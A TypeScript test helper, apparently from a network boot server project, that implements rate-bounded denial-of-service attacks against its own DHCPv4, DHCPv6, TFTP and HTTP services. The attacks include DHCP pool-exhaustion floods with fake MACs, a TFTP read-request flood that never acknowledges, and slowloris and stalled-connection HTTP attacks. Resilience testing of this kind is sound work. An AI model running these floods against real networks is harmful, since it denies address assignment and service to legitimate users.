/**
 * The hostile peers. Each sends at a fixed rate from its own source address (never the
 * legitimate client's, so a per-client budget on the server can tell them apart), is
 * bounded in count and time, and returns what it managed to send.
 */
import { randomBytes } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { connect, type Socket as TcpSocket } from 'node:net';
import { dhcp4Request, encodeDhcp4 } from '../../src/protocol/dhcp4/packet.js';
import { Dhcp4MessageType, messageTypeOption } from '../../src/protocol/dhcp4/options.js';
import { encodeDhcp6, Dhcp6MessageType, Dhcp6Option } from '../../src/protocol/dhcp6/message.js';
import { encodeIaNa } from '../../src/protocol/dhcp6/options.js';
import { encodeTftp } from '../../src/protocol/tftp/packet.js';
import { paced, sleep } from './pace.js';

export interface Budget {
  rate: number;
  count: number;
  durationMs: number;
}

export interface AttackResult {
  sent: number;
  errors: number;
  /** Requests the server answered, where the attacker can see the answers. */
  answered?: number;
  detail?: string;
}

const bound = (type: 'udp4' | 'udp6', address: string, port = 0): Promise<Socket> =>
  new Promise((resolve, reject) => {
    const s = createSocket({ type });
    s.once('error', reject);
    s.bind(port, address, () => {
      s.off('error', reject);
      s.on('error', () => undefined);
      resolve(s);
    });
  });

/** A distinct locally administered MAC per index, under a per-run random prefix. */
function macFor(prefix: number, i: number): string {
  const b = [0x02, prefix, (i >>> 24) & 0xff, (i >>> 16) & 0xff, (i >>> 8) & 0xff, i & 0xff];
  return b.map((x) => x.toString(16).padStart(2, '0')).join(':');
}

/**
 * DISCOVERs from ever new MACs that never REQUEST: each one makes the server pick (and
 * hold) an address. `fill` first, as fast as it allows, takes the pool's addresses, so the
 * flood proper meets a full pool; `flooding` is called when it begins.
 */
export async function dhcp4DiscoverFlood(source: string, fill: Budget | undefined, b: Budget, flooding: () => void): Promise<AttackResult> {
  const s = await bound('udp4', source);
  s.setBroadcast(true);
  const prefix = randomBytes(1)[0]!;
  let errors = 0;
  let next = 0;
  const discover = (): void => {
    const i = next++;
    const p = dhcp4Request({ xid: i + 1, chaddr: macFor(prefix, i), broadcast: true, options: [messageTypeOption(Dhcp4MessageType.DISCOVER)] });
    s.send(encodeDhcp4(p), 67, '255.255.255.255', (e) => e && errors++);
  };
  const filled = fill ? await paced(fill.rate, fill.count, fill.durationMs, discover) : 0;
  flooding();
  const sent = await paced(b.rate, b.count, b.durationMs, discover);
  s.close();
  return { sent: filled + sent, errors, ...(fill ? { detail: `${filled} to fill the pool, then ${sent}` } : {}) };
}

/** SOLICITs, each with a new DUID-LL and an IA_NA, to All_DHCP_Relay_Agents_and_Servers. */
export async function dhcp6SolicitFlood(source: string, zone: string, b: Budget): Promise<AttackResult> {
  // Port 546: a server that answers to the client port rather than the source port is counted too.
  const s = await bound('udp6', `${source}%${zone}`, 546);
  let answered = 0;
  s.on('message', () => void answered++);
  const prefix = randomBytes(1)[0]!;
  const ia = encodeIaNa({ iaid: 1, t1: 0, t2: 0, addresses: [], options: [] });
  let errors = 0;
  const sent = await paced(b.rate, b.count, b.durationMs, (i) => {
    const duid = Uint8Array.from([0, 3, 0, 1, ...macFor(prefix, i).split(':').map((h) => parseInt(h, 16))]);
    const m = { type: Dhcp6MessageType.SOLICIT, transactionId: i & 0xffffff, options: [{ code: Dhcp6Option.CLIENTID, data: duid }, { code: Dhcp6Option.IA_NA, data: ia }] };
    s.send(encodeDhcp6(m), 547, `ff02::1:2%${zone}`, (e) => e && errors++);
  });
  // Answers still in flight when the sending stops.
  await sleep(300);
  s.close();
  return { sent, errors, answered };
}

/**
 * RRQs of `file`, each from a new port that stays open (so no ICMP unreachable ends the
 * transfer) and never ACKs; every second one asks for `timeout 255` (RFC 2349's maximum).
 */
export async function tftpRrqFlood(server: string, source: string, file: string, b: Budget): Promise<AttackResult> {
  const sockets: Socket[] = [];
  let errors = 0;
  let answered = 0;
  const opening: Promise<void>[] = [];
  const sent = await paced(b.rate, b.count, b.durationMs, (i) => {
    const rrq = encodeTftp({ op: 'rrq', filename: file, mode: 'octet', options: i % 2 === 1 ? [{ name: 'timeout', value: '255' }] : [] });
    opening.push(
      bound('udp4', source).then(
        (s) => {
          sockets.push(s);
          s.once('message', () => void answered++);
          s.send(rrq, 69, server, (e) => e && errors++);
        },
        () => void errors++,
      ),
    );
  });
  await Promise.all(opening);
  // Hold the ports until the flood's time is up: the transfers stay live on the server.
  await sleep(Math.max(0, b.durationMs - 50 - sent / b.rate * 1000));
  for (const s of sockets) s.close();
  return { sent, errors, answered, ...(sockets.length < sent ? { detail: `only ${sockets.length} ports held` } : {}) };
}

export interface HttpAttack {
  host: string;
  port: number;
  source: string;
  /** Connections that send part of a request's headers, a line every 5 s, and never finish. */
  slowloris: number;
  /** Connections that GET `bigPath` and never read. */
  stalled: number;
  bigPath: string;
  /** Idle connections opened at `rate`/s on top, up to this many. */
  flood: number;
  rate: number;
  durationMs: number;
}

/** Holds every kind of abusive HTTP connection at once until the time is up. */
export async function httpFlood(a: HttpAttack): Promise<AttackResult> {
  const open: TcpSocket[] = [];
  const counts = { opened: 0, refused: 0, reset: 0 };
  const start = (onConnect: (s: TcpSocket) => void): void => {
    const s = connect({ host: a.host, port: a.port, localAddress: a.source }, () => {
      counts.opened++;
      onConnect(s);
    });
    s.on('error', (e: NodeJS.ErrnoException) => (e.code === 'ECONNREFUSED' || e.code === 'ETIMEDOUT' ? counts.refused++ : counts.reset++));
    open.push(s);
  };
  const t0 = performance.now();
  const slow = paced(100, a.slowloris, a.durationMs, () =>
    start((s) => {
      s.write(`GET /${randomBytes(4).toString('hex')} HTTP/1.1\r\nHost: ${a.host}\r\n`);
      const drip = setInterval(() => (s.destroyed ? clearInterval(drip) : s.write('X-Drip: 1\r\n')), 5000);
      s.once('close', () => clearInterval(drip));
    }),
  );
  const stalled = paced(50, a.stalled, a.durationMs, () =>
    start((s) => {
      s.pause();
      s.write(`GET ${a.bigPath} HTTP/1.1\r\nHost: ${a.host}\r\n\r\n`);
    }),
  );
  const flood = paced(a.rate, a.flood, a.durationMs, () => start(() => undefined));
  const sent = (await Promise.all([slow, stalled, flood])).reduce((x, y) => x + y, 0);
  await sleep(Math.max(0, t0 + a.durationMs - performance.now()));
  const live = open.filter((s) => !s.destroyed).length;
  for (const s of open) s.destroy();
  return { sent, errors: counts.refused + counts.reset, detail: `${counts.opened} connected, ${live} still open at the end, ${counts.refused} refused, ${counts.reset} reset` };
}

/** Joins ff02::1:2 on `zone` so that multicast to it is accepted on this host at all. */
export async function joinDhcp6Group(zone: string, durationMs: number): Promise<AttackResult> {
  const s = await bound('udp6', '::');
  s.addMembership('ff02::1:2', `::%${zone}`);
  await sleep(durationMs);
  s.close();
  return { sent: 0, errors: 0 };
}
